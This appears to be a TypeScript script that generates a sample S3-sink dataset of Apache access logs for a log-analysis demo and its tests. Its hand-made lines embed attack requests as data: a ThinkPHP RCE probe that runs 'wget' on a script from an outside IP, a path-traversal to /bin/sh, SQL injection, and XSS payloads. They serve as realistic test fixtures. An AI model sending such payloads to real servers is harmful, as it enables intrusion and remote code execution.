// Builds sample/: the bundled S3 sink output that `npm run demo` and the tests load.
//
// Real lines from a public web server (test/fixtures/real-logs, May 2015), moved to May 2023
// (same weekdays) and rewritten in the servers' +0530 time zone, spread over three EC2 instances
// the way a load balancer with sticky sessions would, then laid out exactly as CloudWatch Logs →
// Kafka → Confluent's S3 sink writes them. A few hand-made lines add what the real log lacks:
// scanners, probes, TLS sent to the HTTP port, and lines that do not parse.
//
// Deterministic: running it twice gives the same bytes. `npx tsx scripts/make-sample.ts`
import {mkdirSync, rmSync, writeFileSync} from "node:fs";
import {dirname, join, resolve} from "node:path";
import {fileURLToPath} from "node:url";
import {gzipSync} from "node:zlib";
import {connectKeyText} from "../data-loaders/records/connect-key.js";
import {fixtureLines, REAL_LOG} from "../test/fixtures.js";
import {ownTrafficFacts, ownTrafficLines} from "./sample-classes.js";
import {apacheTime, retime, type LogLine} from "./sample-lines.js";
import {API_INSTANCE, API_LOG_GROUP, perfSampleInstances, VHOST_INSTANCE} from "./sample-perf.js";
import {visitSampleFacts, visitSampleLines} from "./sample-visits.js";

const projectDir = resolve(fileURLToPath(import.meta.url), "../..");
const SAMPLE_DIR = join(projectDir, "sample");

const LOG_GROUP = "cloudwatchLogsEC2";
const INSTANCES = ["i-02e3ca004943e0f26", "i-0b7d5c1e9a4f3e812", "i-05f1a9c3d7e2b6480"] as const;
/** Records per object. The real connector uses 1000; smaller here so the sample has several objects per partition. */
const FLUSH_SIZE = 500;

/**
 * How each instance's connector writes records, so the sample covers every shape in
 * docs/design-notes.md (What the connectors write). The first is the real connector's: the log
 * line alone as the value, group, stream and time in the key, written beside the values as
 * Struct text (store.kafka.keys=true, keys format BYTES).
 */
const INSTANCE_SHAPES = [
  {partitions: 2, value: "string", gzip: false, keys: "struct"},
  {partitions: 1, value: "envelope", gzip: false, keys: "none"},
  {partitions: 1, value: "object", gzip: true, keys: "struct"},
] as const;
/** The real CloudWatch Logs source: bare-string values, Struct keys beside them. */
const REAL_CONNECTOR_SHAPE = {partitions: 1, value: "string", gzip: false, keys: "struct"} as const;
type InstanceShape = (typeof INSTANCE_SHAPES)[number] | typeof REAL_CONNECTOR_SHAPE;

function main(): void {
  const real = fixtureLines(REAL_LOG);
  // Three lines in five: about 6,000 lines over the log's four days.
  const lines: LogLine[] = real.filter((_, i) => i % 5 < 3).map(retime);
  lines.push(...handMadeLines(), ...visitSampleLines());
  const ownTraffic = ownTrafficLines();
  lines.push(...ownTraffic.map(({line}) => line));
  lines.sort((a, b) => a.utcMillis - b.utcMillis);

  rmSync(join(SAMPLE_DIR, "s3-sink"), {recursive: true, force: true});
  rmSync(join(SAMPLE_DIR, "rewrites"), {recursive: true, force: true});

  const written: SinkObject[] = [];
  INSTANCES.forEach((instance, i) => {
    const shape = INSTANCE_SHAPES[i];
    const mine = lines.filter((line) => instanceOf(line) === i);
    for (let partition = 0; partition < shape.partitions; partition++) {
      const records = mine.filter((line) => hash(line.clientIp + "/partition") % shape.partitions === partition);
      written.push(...writePartition(LOG_GROUP, instance, partition, records, shape));
    }
  });
  // The instances of other formats (scripts/sample-perf.ts), as the real connector writes: bare
  // strings with Struct key files, which carry their log group.
  const others = perfSampleInstances();
  for (const other of others) written.push(...writePartition(other.logGroup, other.logStream, 0, other.lines, REAL_CONNECTOR_SHAPE));
  const eventsOf = (instance: string) => written.filter((o) => o.instance === instance).reduce((n, o) => n + o.records.filter(isEvent).length, 0);
  const rewrites = writeRewrites(written);

  const expected = {
    description: "What a correct sync of sample/s3-sink then sample/rewrites gives; computed by scripts/make-sample.ts",
    records: written.reduce((n, o) => n + o.records.length, 0),
    events: written.reduce((n, o) => n + o.records.filter((r) => r.line.parses && !r.malformed).length, 0),
    rejected: written.reduce((n, o) => n + o.records.filter((r) => !r.line.parses || r.malformed).length, 0),
    valueObjects: written.length,
    keyFiles: written.filter((o) => o.keys !== null).length,
    /** Events with a CloudWatch time: from their key, or from a value that carries it. */
    eventsWithIngestTs: written.reduce((n, o) => n + o.records.filter((r, i) => isEvent(r) && (o.value !== "string" || (o.keys !== null && i < o.keys.count))).length, 0),
    /** Objects whose key file does not match their values, as the Data quality page must show them. */
    keyMismatches: written.filter((o) => o.keys !== null && o.keys.count !== o.records.length).map((o) => ({key: o.key, keys: o.keys!.count, records: o.records.length})),
    jsonKeyFile: written.find((o) => o.keys?.format === "json")!.key,
    rewrites,
    instances: [
      ...INSTANCES.map((instance, i) => ({log_group: LOG_GROUP, log_stream: instance, events: eventsOf(instance), shape: INSTANCE_SHAPES[i]})),
      ...others.map((other) => ({log_group: other.logGroup, log_stream: other.logStream, events: eventsOf(other.logStream), shape: REAL_CONNECTOR_SHAPE, format: other.format})),
    ],
    /** The instances of other formats: the one logging %D, and the one logging vhost_combined. */
    perf: {
      durationInstance: {log_group: API_LOG_GROUP, log_stream: API_INSTANCE, events: eventsOf(API_INSTANCE)},
      vhostInstance: {log_stream: VHOST_INSTANCE, events: eventsOf(VHOST_INSTANCE)},
      vhosts: countBy(others.find((o) => o.logStream === VHOST_INSTANCE)!.lines.map((l) => l.text.slice(0, l.text.indexOf(":")))),
    },
    classes: ownTrafficFacts(written.flatMap((o) => o.records.filter(isEvent).map((r) => r.line)), ownTraffic),
    /** The Broken links, Visits and Top talkers pages' hand-made lines (scripts/sample-visits.ts). */
    visits: visitSampleFacts(),
  };
  writeFileSync(join(SAMPLE_DIR, "expected.json"), JSON.stringify(expected, null, 2) + "\n");
  console.log(`sample/: ${expected.records} records in ${expected.valueObjects} objects, ${expected.keyFiles} key files, ${expected.rejected} lines that must be rejected`);
}


/**
 * What the real log lacks. Each line is what such a client really sends; the user agent of the
 * Expanse scanner is the one Palo Alto Networks publishes.
 */
function handMadeLines(): LogLine[] {
  const at = (iso: string) => Date.parse(iso);
  const line = (iso: string, clientIp: string, rest: string, parses = true): LogLine => ({
    utcMillis: at(iso),
    clientIp,
    text: `${clientIp} - - [${apacheTime(at(iso))}] ${rest}`,
    parses,
  });
  const expanse =
    '"Expanse, a Palo Alto Networks company, searches across the global IPv4 space multiple times per day to identify customers&#39; presences on the Internet. If you would like to be excluded from our scans, please send IP addresses/domains to: scaninfo@paloaltonetworks.com"';
  const curl = '"curl/7.88.1"';
  const chrome = '"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/112.0.0.0 Safari/537.36"';
  return [
    line("2023-05-14T11:02:17Z", "205.210.31.24", `"GET / HTTP/1.1" 200 10586 "-" ${expanse}`),
    line("2023-05-15T03:41:09Z", "205.210.31.24", `"GET / HTTP/1.1" 200 10586 "-" ${expanse}`),
    line("2023-05-16T19:12:44Z", "198.235.24.131", `"GET /favicon.ico HTTP/1.1" 200 3638 "-" ${expanse}`),
    line("2023-05-14T13:20:01Z", "45.148.10.81", '"\\x16\\x03\\x01\\x00\\xca\\x01\\x00\\x00\\xc6\\x03\\x03\\xa4\\x8f" 400 226 "-" "-"'),
    line("2023-05-15T22:05:55Z", "45.148.10.81", '"\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xfc\\x03\\x03" 400 226 "-" "-"'),
    line("2023-05-14T16:44:12Z", "185.254.196.173", `"GET /.env HTTP/1.1" 404 196 "-" ${chrome}`),
    line("2023-05-14T16:44:13Z", "185.254.196.173", `"GET /.git/config HTTP/1.1" 404 196 "-" ${chrome}`),
    line("2023-05-14T16:44:13Z", "185.254.196.173", `"POST /wp-login.php HTTP/1.1" 404 196 "-" ${chrome}`),
    line("2023-05-16T02:17:30Z", "193.35.18.61", `"GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1" 400 226 "-" ${curl}`),
    line("2023-05-16T02:17:31Z", "193.35.18.61", `"GET /blog/tags/puppet?id=1%27%20OR%20%271%27%3D%271 HTTP/1.1" 200 14872 "-" ${curl}`),
    line("2023-05-17T08:30:00Z", "193.35.18.61", `"GET /index.php?s=/Index/\\\\think\\\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=wget%20http://193.35.18.61/x.sh HTTP/1.1" 404 196 "-" "Mozlila/5.0 (Linux; Android 7.0; SM-G892A Bulid/NRD90M; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/60.0.3112.107 Moblie Safari/537.36"`),
    // Log content is attacker-controlled: the site must show this as text, never run it.
    line("2023-05-17T12:00:00Z", "203.0.113.7", `"GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1" 200 5120 "<img src=x onerror=alert(2)>" "<script>alert(3)</script>"`),
    line("2023-05-17T12:00:01Z", "2001:db8:85a3::8a2e:370:7334", `"GET /favicon.ico HTTP/2.0" 200 3638 "-" ${chrome}`),
    // Lines that do not parse: they must be kept in the rejected table with their reason.
    line("2023-05-15T06:00:00Z", "10.0.4.17", '"GET /presentations/logstash-monitorama-2013/images/kib', false),
    {utcMillis: at("2023-05-16T06:00:00Z"), clientIp: "10.0.4.18", text: "[Tue May 16 11:30:00.123456 2023] [mpm_event:notice] [pid 1234:tid 140] AH00489: Apache/2.4.57 (Unix) configured -- resuming normal operations", parses: false},
    {utcMillis: at("2023-05-17T06:00:00Z"), clientIp: "10.0.4.19", text: "", parses: false},
  ];
}

interface SinkRecord {
  line: LogLine;
  logGroup: string;
  instance: string;
  /** True for the one record whose JSON the "connector" truncated: rejected as a record. */
  malformed: boolean;
}

interface SinkObject {
  key: string;
  instance: string;
  topic: string;
  partition: number;
  startOffset: number;
  records: SinkRecord[];
  value: "object" | "envelope" | "string";
  /** The key file beside it: its format and how many keys it holds; null when keys are not stored. */
  keys: {format: "struct" | "json"; count: number} | null;
  body: Buffer;
}

function isEvent(record: SinkRecord): boolean {
  return record.line.parses && !record.malformed;
}

function writePartition(logGroup: string, instance: string, partition: number, lines: LogLine[], shape: InstanceShape): SinkObject[] {
  const topic = `${logGroup}.${instance}`;
  const objects: SinkObject[] = [];
  for (let start = 0; start < lines.length; start += FLUSH_SIZE) {
    const records: SinkRecord[] = lines.slice(start, start + FLUSH_SIZE).map((line) => ({line, logGroup, instance, malformed: false}));
    // One record in the envelope-shaped stream arrives cut short.
    if (shape.value === "envelope" && start === FLUSH_SIZE) records[7].malformed = true;
    const value = shape.value;
    const text = records.map((record) => encodeRecord(record, value)).join("\n") + "\n";
    const last = start + FLUSH_SIZE >= lines.length;
    // One object's keys came through a JSON key converter; the last object of the first
    // instance's partition 1 has a key file two keys short (a mismatch the demo shows).
    const format = shape.keys === "struct" && value === "string" && partition === 0 && start === FLUSH_SIZE ? "json" : "struct";
    const count = value === "string" && partition === 1 && last ? records.length - 2 : records.length;
    const object: SinkObject = {
      key: objectKey(topic, partition, start, shape.gzip ? ".json.gz" : ".json"),
      instance,
      topic,
      partition,
      startOffset: start,
      records,
      value,
      keys: shape.keys === "none" ? null : {format, count},
      body: shape.gzip ? gzipSync(text, {level: 9}) : Buffer.from(text),
    };
    writeObject("s3-sink", object.key, object.body);
    if (object.keys) writeKeyFile("s3-sink", object, records.slice(0, object.keys.count), shape.gzip);
    objects.push(object);
  }
  return objects;
}

/** CloudWatch's timestamp is ingestion, a moment after Apache wrote the line. */
function cloudwatchTime(line: LogLine): number {
  return line.utcMillis + 400 + (hash(line.text) % 1600);
}

/**
 * The record keys beside the values, one a line in the values' order, as the S3 sink writes them
 * (store.kafka.keys=true, BYTES): the Connect struct's text, or JSON from a JSON key converter;
 * gzipped like the values.
 */
function writeKeyFile(tree: "s3-sink" | "rewrites", object: SinkObject, records: SinkRecord[], gzip: boolean): void {
  const format = object.keys!.format;
  const text =
    records
      .map(({line, logGroup, instance}) =>
        format === "json"
          ? JSON.stringify({logGroupName: logGroup, logStreamName: instance, timestamp: cloudwatchTime(line)})
          : connectKeyText(logGroup, instance, cloudwatchTime(line)),
      )
      .join("\n") + "\n";
  const suffix = `.keys.${format === "json" ? "json" : "bin"}${gzip ? ".gz" : ""}`;
  writeObject(tree, objectKey(object.topic, object.partition, object.startOffset, suffix), gzip ? gzipSync(text, {level: 9}) : Buffer.from(text));
}

/** The record value as the CloudWatch Logs source connector's JSON converter writes it. */
function encodeRecord(record: SinkRecord, shape: "object" | "envelope" | "string"): string {
  if (shape === "string") return JSON.stringify(record.line.text);
  const value = {
    logGroupName: record.logGroup,
    logStreamName: record.instance,
    timestamp: cloudwatchTime(record.line),
    message: record.line.text,
  };
  if (shape === "object") return JSON.stringify(value);
  const schema = {
    type: "struct",
    optional: false,
    fields: [
      {field: "logGroupName", type: "string", optional: false},
      {field: "logStreamName", type: "string", optional: false},
      {field: "timestamp", type: "int64", optional: false},
      {field: "message", type: "string", optional: false},
    ],
  };
  const json = JSON.stringify({schema, payload: value});
  return record.malformed ? json.slice(0, json.length - 40) : json;
}

/**
 * A connector restart, twice over: the first object of the second instance written again under
 * its own name (same records, new bytes), and the first instance's partition 0 re-delivered from
 * offset 250 under a new name, overlapping two objects it already wrote.
 */
function writeRewrites(written: SinkObject[]) {
  const sameName = written.find((o) => o.instance === INSTANCES[1] && o.startOffset === 0)!;
  const text = sameName.records.map((record) => {
    const value = {schema: null, payload: {message: record.line.text, timestamp: record.line.utcMillis + 900, logStreamName: record.instance, logGroupName: LOG_GROUP}};
    return JSON.stringify(value);
  });
  writeObject("rewrites", sameName.key, Buffer.from(text.join("\n") + "\n"));

  const partition0 = written.filter((o) => o.instance === INSTANCES[0] && o.partition === 0).flatMap((o) => o.records);
  const redelivered = partition0.slice(250, 250 + FLUSH_SIZE);
  const key = objectKey(sameName.topic.replace(INSTANCES[1], INSTANCES[0]), 0, 250, ".json");
  writeObject("rewrites", key, Buffer.from(redelivered.map((record) => encodeRecord(record, "string")).join("\n") + "\n"));
  const overlapping: SinkObject = {key, instance: INSTANCES[0], topic: sameName.topic.replace(INSTANCES[1], INSTANCES[0]), partition: 0, startOffset: 250, records: redelivered, value: "string", keys: {format: "struct", count: redelivered.length}, body: Buffer.alloc(0)};
  writeKeyFile("rewrites", overlapping, redelivered, false);
  return {
    replacedKey: sameName.key,
    replacedRecords: sameName.records.length,
    overlappingKey: key,
    overlappingRecords: redelivered.length,
  };
}

function objectKey(topic: string, partition: number, startOffset: number, suffix: string): string {
  return `topics/${topic}/year=2023/${topic}+${partition}+${String(startOffset).padStart(10, "0")}${suffix}`;
}

function writeObject(tree: "s3-sink" | "rewrites", key: string, body: Buffer): void {
  const file = join(SAMPLE_DIR, tree, key);
  mkdirSync(dirname(file), {recursive: true});
  writeFileSync(file, body);
}

/** How many times each value occurs, most first (then by value). */
function countBy(values: string[]): {value: string; count: number}[] {
  const counts = new Map<string, number>();
  for (const value of values) counts.set(value, (counts.get(value) ?? 0) + 1);
  return [...counts].map(([value, count]) => ({value, count})).sort((a, b) => b.count - a.count || a.value.localeCompare(b.value));
}

function instanceOf(line: LogLine): number {
  return hash(line.clientIp) % INSTANCES.length;
}

/** FNV-1a: a stable, well-spread hash so the sample is the same on every run. */
function hash(text: string): number {
  let h = 0x811c9dc5;
  for (let i = 0; i < text.length; i++) h = Math.imul(h ^ text.charCodeAt(i), 0x01000193);
  return h >>> 0;
}

main();
